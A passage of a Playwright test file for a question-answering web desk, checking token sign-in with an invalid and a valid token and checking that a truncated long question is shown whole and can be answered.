  await page.getByLabel('Or sign in with a token').fill('prl_not-one-that-is-known');
  await page.keyboard.press('Enter');
  await page.getByText('This token is unknown, expired or revoked').waitFor();
  await page.getByLabel('Or sign in with a token').fill(token);
  await page.keyboard.press('Enter');
  await page.getByText("You're all caught up.").waitFor();
  expect(await page.locator('.who').textContent()).toBe('eve');
});

test('a question that the list shortens is read whole before it can be answered', async () => {
  const desk = await openDesk();
  const end = 'the last words of the question';
  const id = await ask(desk, `[[ask ${'long words '.repeat(2000)}${end} | Postgres | SQLite]] [[done "ok"]]`);
  expect((await desk.server.client.inbox()).interactions.map(({ truncated }) => truncated)).toEqual(
    [['prompt', 'question']].map((parts) => expect.arrayContaining(parts) as string[]),
  );
  const page = await desk.open('/');
  await card(page, end).waitFor();
  await page.getByRole('button', { name: 'SQLite' }).click();
  await ended(desk, id).toBe('succeeded');
  expect(await answers(desk, id)).toEqual(['SQLite']);
});
